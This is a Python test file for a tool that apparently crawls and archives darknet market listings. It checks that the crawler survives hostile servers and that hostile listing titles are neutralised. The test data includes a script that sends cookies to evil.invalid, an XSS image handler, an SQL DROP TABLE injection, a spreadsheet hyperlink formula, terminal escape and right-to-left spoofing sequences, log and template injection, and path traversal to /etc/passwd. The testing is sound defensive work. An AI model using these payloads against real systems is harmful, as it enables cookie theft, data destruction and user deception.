"""What a hostile market can send: each attack is made, the daemon goes on, and the operator sees what the table in the guide says."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import gzip
import importlib.util
import io
import json
import logging
from pathlib import Path

import pytest
import structlog
from click.testing import CliRunner

from torwatch.archive.index import read_index
from torwatch.archive.reader import read_page
from torwatch.cli import torwatch
from torwatch.demo.market import Fault, FaultKind
from torwatch.logs import set_up_logs
from torwatch.model import Outcome
from torwatch.normalise.text import visible
from torwatch.normalisers import key_reader, normalisers_for
from torwatch.ops.notifier import compose
from torwatch.store.alerts import Alert, add_alerts, list_alerts
from torwatch.store.database import open_store
from torwatch.store.derived import write_derived
from torwatch.store.vendor_keys import write_vendor_keys

pytestmark = pytest.mark.fault
SPEC = importlib.util.spec_from_file_location("store_builders", Path(__file__).parents[1] / "unit" / "store" / "builders.py")
builders = importlib.util.module_from_spec(SPEC)
SPEC.loader.exec_module(builders)

MEGABYTE = 1_000_000
ATTACKS = {
    "a page of gzip that unpacks to 200 MB": (FaultKind.BOMB, 200 * MEGABYTE, {}, Outcome.TOO_LARGE),
    "a body without end": (FaultKind.ENDLESS_BODY, None, {}, Outcome.TOO_LARGE),
    "a page that drips": (FaultKind.DRIP, None, {"page_deadline": 2.0}, Outcome.TIMEOUT_TOTAL),
    "2 MB of header lines": (FaultKind.HEADER_FLOOD, 2 * MEGABYTE, {}, Outcome.RESET),
    "redirects in a circle": (FaultKind.REDIRECT_LOOP, None, {}, Outcome.HTTP_ERROR),
    "an element with 1 000 000 attributes": (FaultKind.ATTRIBUTES, MEGABYTE, {}, Outcome.TOO_LARGE),
    "an element with 100 000 attributes": (FaultKind.ATTRIBUTES, 100_000, {}, Outcome.PARSE_LIMIT),
    "100 000 elements within one another": (FaultKind.DEEP, 100_000, {}, Outcome.PARSE_LIMIT),
}
TITLES = {
    "a script": "<script>fetch('http://evil.invalid/'+document.cookie)</script>",
    "an image with a handler": '"><img src=http://evil.invalid/x.png onerror=alert(1)>',
    "SQL": "'); DROP TABLE listing; --",
    "a formula": '=HYPERLINK("http://evil.invalid/","tea")',
    "escape sequences": "\x1b]0;owned\x07\x1b[2J\x9b31mtea",
    "text that runs backwards": "tea \u202egnp.exe\u2066",
    "a line of a log": 'tea\n{"event":"daemon_stopped"}',
    "a template": "{{7*7}} ${7*7} %(x)s",
}
STEERING = ("\x1b", "\x9b", "\x07", "\u202e", "\u2066")


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_hostile_answer_costs_one_page_and_the_walk_goes_on(watched, record_attack, attack):
    kind, size, limits, outcome = ATTACKS[attack]
    watch = watched(listings=12, concurrency=2, page_attempts=1, **{name: dt.timedelta(seconds=value) for name, value in limits.items()})
    victim = listing_paths(watch)[0]
    options = {"size_bytes": size} if size else {}
    if kind is FaultKind.DRIP:
        options["seconds"] = 60.0
    watch.server.faults.add(Fault(kind, path=f"^{victim}$", **options))
    _, ending = watch.look()
    assert ending.state in {"complete", "partial"}
    (row,) = watch.store.rows("SELECT outcome, reason FROM failure WHERE path = ?", (victim,))
    assert row["outcome"] == outcome.value, (row["outcome"], row["reason"])
    assert watch.store.value("SELECT count(*) FROM failure") == 1
    assert watch.store.value("SELECT count(*) FROM listing") == 12
    record_attack(attack, f"the page is `{outcome.value}`; the snapshot goes on")


def listing_paths(watch):
    """The own pages of the market's listings."""
    watch.look()
    paths = [row["path"] for row in watch.store.rows("SELECT path FROM listing WHERE path IS NOT NULL ORDER BY id")]
    watch.begin_again()
    return paths


@pytest.mark.parametrize(("pages", "reason"), [(20, "budget of 20 pages"), (60, "goes on without an end")])
def test_a_market_without_an_end_is_cut_by_the_budget_or_where_its_pages_repeat_others(watched, record_attack, pages, reason):
    watch = watched(listings=20)
    watch.server.faults.add(Fault(FaultKind.ENDLESS))
    _, ending = watch.look(pages_per_snapshot=pages)
    assert ending.state == "partial"
    assert reason in ending.reason
    record_attack(
        "lists that never end",
        "the snapshot is `partial`: its reason names the lists that go on without an end, or the budget of pages that was spent; nothing is counted"
        " as missed",
    )


@pytest.fixture
def hostile(tmp_path, monkeypatch):
    """A database whose listings bear every hostile title, and a command line over it."""
    monkeypatch.setenv("STATE_DIRECTORY", str(tmp_path))
    monkeypatch.delenv("TORWATCH_CONFIG", raising=False)
    with open_store(tmp_path / "torwatch.db") as store:
        target = builders.a_target(store)
        listings = {
            str(number): {"title": title, "vendor": title, "price": "12", "currency": "EUR", "ship_from": title, "description": title}
            for number, title in enumerate(TITLES.values())
        }
        builders.take(store, target, {}, week=0)
        builders.take(store, target, listings, week=1)
        write_derived(store, target.market_id, normalisers_for())
        write_vendor_keys(store, target.market_id, key_reader())
        add_alerts(
            store, [Alert(title, "change", "mine", "teahouse", f"new: {title}", title) for title in TITLES.values()], [], now=builders.NOW
        )
        yield store


def run(*arguments):
    done = CliRunner().invoke(torwatch, arguments, catch_exceptions=False)
    assert done.exit_code == 0, done.output
    return done.stdout


SCREENS = (
    ("snapshot", "diff", "1", "2"),
    ("history", "listing", "0", "--market", "teahouse"),
    ("state", "--at", "2026-02-01"),
    ("search", "tea"),
    ("alert", "list"),
    ("country", "unknown"),
    ("answer",),
)


@pytest.mark.usefixtures("hostile")
@pytest.mark.parametrize("command", SCREENS, ids=" ".join)
def test_no_command_sends_a_hostile_title_to_the_terminal_as_it_is(command, record_attack):
    shown = run(*command)
    assert not set(STEERING) & set(shown)
    record_attack(
        "escape sequences and text that runs backwards, in titles, names and origins", r"terminal: `\x1b`, `\u202e` in plain letters"
    )


@pytest.mark.usefixtures("hostile")
def test_json_keeps_every_sign_and_shows_none_that_steers(record_attack):
    shown = run("alert", "list", "--json")
    assert not set(STEERING) & set(shown)
    assert {one["body"] for one in json.loads(shown)} == set(TITLES.values())
    record_attack("the same in JSON", r"escaped as `\uXXXX`, no sign lost")


@pytest.mark.usefixtures("hostile")
def test_a_spreadsheet_takes_no_cell_for_a_formula(tmp_path, record_attack):
    run("export", "--format", "csv", "--output", str(tmp_path / "out"))
    text = (tmp_path / "out" / "listings.csv").read_text(encoding="utf-8")
    titles = [row["title"] for row in csv.DictReader(io.StringIO(text))]
    assert len(titles) == len(TITLES)
    assert not any(title.startswith(("=", "+", "-", "@", "\t", "\r")) for title in titles)
    assert "'=HYPERLINK" in text
    record_attack("a formula as a title", "CSV: an apostrophe before it, so that no spreadsheet runs it")


def test_sql_in_a_title_is_a_title(hostile, record_attack):
    assert hostile.value("SELECT count(*) FROM listing") == len(TITLES)
    assert hostile.value("SELECT key FROM listing WHERE title = ?", (TITLES["SQL"],)) is not None
    assert run("search", TITLES["SQL"])
    record_attack("SQL as a title", "a title: every value is bound")


@pytest.mark.usefixtures("hostile")
def test_the_report_holds_titles_as_text_only(record_attack):
    html = run("answer", "--format", "html")
    assert "<script" not in html
    assert "<img" not in html
    record_attack("a script as a title", "HTML, datasette, notification: text; a browser runs nothing and asks nobody (`tests/browser`)")


def test_a_notification_is_plain_text_without_control_characters(hostile):
    _, body = compose(list_alerts(hostile), reveal=True, show=visible)
    assert body.replace("\n", "").isprintable()
    assert "daemon_stopped" in body
    assert all(line.startswith(("- ", "  ")) for line in body.splitlines())


def test_no_title_writes_a_line_of_the_log(record_attack):
    stream = io.StringIO()
    set_up_logs("info", "json", stream)
    try:
        for title in TITLES.values():
            structlog.get_logger().info("listing_seen", title=title)
            logging.getLogger("library").warning("met %s", title)
    finally:
        structlog.reset_defaults()
    lines = stream.getvalue().splitlines()
    assert [json.loads(line)["event"] for line in lines] == ["listing_seen", "library_message"] * len(TITLES)
    assert not set(STEERING) & set(stream.getvalue())
    record_attack("a line of the log as a title", r"the log: one event a line, `\n` in plain letters")


PATHS = (
    "/../../../etc/passwd",
    "/%2e%2e/%2e%2e/x",
    "/a\r\nWARC-Type: metadata\r\n\r\n",
    "//evil.invalid/x",
    "/" + "a" * 5000,
    "/\x00",
    "/…\u202e",
)


def test_no_path_of_a_page_steers_the_archive(watched, record_attack):
    watch = watched(listings=6)
    links = "".join(f'<a href="{path}">x</a>' for path in PATHS)
    plain = watch.server.engine.render
    watch.server.engine.render = lambda *arguments: with_links(plain(*arguments), links)
    _, ending = watch.look()
    assert ending.state in {"complete", "partial"}
    archive = watch.config.archive_directory
    (warc,) = archive.glob("souk/*.warc.gz")
    kept = {path.parent for path in archive.rglob("*") if path.is_file() and "_parsers" not in path.parts}
    assert kept <= {archive, archive / "souk"}
    raw = gzip.decompress(warc.read_bytes())
    assert b"WARC-Type: metadata" not in raw.replace(links.encode(), b"")
    for entry in read_index(warc.with_name("00000001.cdxj")):
        if entry.offset is not None:
            assert read_page(warc, entry.offset).url == entry.url
    record_attack("paths with `..`, line ends, other hosts, 5000 signs", "no file but the snapshot's own; nothing leaves the onion")


def with_links(answer, links):
    """An answer of the market with these links at its end."""
    return dataclasses.replace(answer, body=answer.body.replace("</body>", f"{links}</body>"))
